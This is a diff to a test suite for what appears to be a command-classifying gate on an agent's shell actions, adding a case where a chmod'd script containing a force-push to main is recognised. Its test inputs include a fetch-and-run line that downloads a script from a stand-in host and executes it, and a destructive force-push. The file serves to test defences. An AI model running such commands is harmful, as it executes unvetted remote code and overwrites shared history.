@@ -258,6 +258,9 @@ describe("the rest of the local loop", () => {
     );
     // An ordinary heredoc script proceeds as its text says: nothing is asked.
     expect(names("cat > t.py <<'EOF'\nprint('hi')\nEOF\npython3 t.py")).toEqual(["filesystem.write", "python.run"]);
+    // A mode change keeps the text the gate read: the script is resolved as itself.
+    const files = { "/repo/scripts/b.sh": "#!/bin/sh\ngit push -f origin main\n" };
+    expect(names("chmod +x scripts/b.sh && ./scripts/b.sh", { ...NODE, files })).toContain("git.push-force");
     // Changed after it was written, fetched, or appended to: no text can be read ahead, so it is hidden code.
     expect(names("echo ls > p.sh && sed -i s/ls/x/ p.sh && ./p.sh")).toContain("shell.script");
     expect(names("curl -so x.sh https://e.example/x && chmod +x x.sh && ./x.sh")).toContain("shell.script");
